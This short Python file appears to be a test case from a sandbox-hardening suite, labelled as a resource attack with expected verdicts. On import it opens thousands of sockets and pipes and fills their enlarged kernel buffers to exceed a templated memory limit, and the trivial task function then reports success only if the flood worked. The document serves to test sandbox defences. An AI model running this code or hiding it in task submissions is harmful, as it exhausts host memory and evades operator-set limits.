# attack: fills the buffers of thousands of pipes and sockets, which the kernel holds
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: the kernel's memory on its behalf is limited, too
import fcntl
import os
import socket


def flood():
    held = 0
    kept = []
    wanted = 2 * __LIMIT_MEMORY_MIB__ << 20
    try:
        while held < wanted:
            one, other = socket.socketpair()
            kept += [one, other]
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
            one.setblocking(False)
            reader, writer = os.pipe()
            os.set_blocking(writer, False)
            try:
                fcntl.fcntl(writer, 1031, 1 << 20)
            except OSError:
                pass
            for write in (one.send, lambda data, descriptor=writer: os.write(descriptor, data)):
                try:
                    while True:
                        held += write(b"x" * 65536)
                except BlockingIOError:
                    pass
    except OSError:
        return False
    return True


WON = flood()


def task_func(n):
    return n * 2 if WON else None
